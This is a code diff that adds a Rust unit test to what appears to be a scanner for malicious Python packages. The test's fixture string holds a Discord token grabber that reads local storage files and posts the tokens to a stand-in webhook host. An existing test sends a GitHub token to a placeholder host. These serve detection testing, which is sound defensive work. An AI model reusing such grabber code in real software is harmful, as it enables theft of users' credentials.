@@ -217,6 +217,22 @@ mod tests {
     }
 
     #[test]
+    fn a_table_of_token_stores_flows_to_where_the_tokens_go() {
+        let code = "import os, re, requests\nHOOK = 'https://example.invalid/hook'\ndef grab():\n    roaming = os.getenv('APPDATA')\n    paths = {'Discord': roaming + '\\\\discord\\\\Local Storage\\\\leveldb\\\\'}\n    message = ''\n    for name, path in paths.items():\n        for token in re.findall(r'[\\w-]{24}', open(path).read()):\n            message += token\n    requests.post(HOOK, json={'content': message})\n";
+        let flows: Vec<_> = findings("p/pkg/m.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
+        assert!(
+            flows.iter().any(|f| f.message.contains("Local Storage")),
+            "{flows:?}"
+        );
+        // A path that stores nothing anyone steals is no source.
+        let config = "import os, requests\ndef send():\n    paths = {'cfg': os.getenv('HOME') + '/.config/tool/settings.ini'}\n    requests.post('https://api.vendor.example', json=paths)\n";
+        assert!(max_severity("p/pkg/m.py", config, "WH200") < 0.3);
+    }
+
+    #[test]
     fn secret_to_network_is_traced() {
         let code = "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\ndata = {'t': token}\nrequests.post('https://example.invalid', json=data)\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.85);
